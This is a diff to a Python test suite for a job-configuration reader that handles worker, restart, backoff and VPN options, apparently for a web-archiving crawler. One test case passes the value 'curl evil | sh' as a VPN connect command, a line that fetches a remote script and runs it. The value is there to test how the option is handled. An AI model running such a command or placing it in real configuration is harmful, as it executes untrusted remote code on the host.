@@ -131,6 +131,8 @@ def test_groups_appear_only_with_what_they_need() -> None:
         (_with(enable_adaptive_workers=True), "tool_options.enable_adaptive_workers"),
         (_with(enable_adaptive_restart=True), "tool_options.enable_adaptive_restart"),
         (_with(enable_vpn_rotation=True), "tool_options.enable_vpn_rotation"),
+        (_with(backoff_delay_minutes=2), "tool_options.backoff_delay_minutes"),
+        (_with(stall_timeout_minutes=5), "tool_options.stall_timeout_minutes"),
         (_with(vpn_connect_command="curl evil | sh"), "tool_options.vpn_connect_command"),
         (_with(docker_image="evil"), "tool_options.docker_image"),
         (_with(initial_workers=0), "tool_options.initial_workers"),
@@ -173,12 +175,15 @@ def test_one_leading_separator_is_dropped() -> None:
 
 
 def test_annual_jobs_get_their_minima_and_no_caps() -> None:
-    low = read_job_config({**_with(max_container_restarts=2, error_threshold_http=99, backoff_delay_minutes=9),
+    low = read_job_config({**_with(enable_monitoring=True, max_container_restarts=2, error_threshold_http=99,
+                                   backoff_delay_minutes=9),
                            "zimit_passthrough_args": ["--pageLimit", "5", "--depth=2"]}, HOST)  # fmt: skip
     raised = with_annual_minima(low.tool_options)
+    quiet = with_annual_minima(read_job_config(_with(), HOST).tool_options)
 
     assert (raised.max_container_restarts, raised.error_threshold_timeout) == (20, 50)
     assert (raised.error_threshold_http, raised.backoff_delay_minutes) == (99, 2)
+    assert (quiet.max_container_restarts, quiet.error_threshold_http, quiet.backoff_delay_minutes) == (20, None, None)
     assert annual_caps(low, Host()) == ["--pageLimit", "--depth"]
 
 
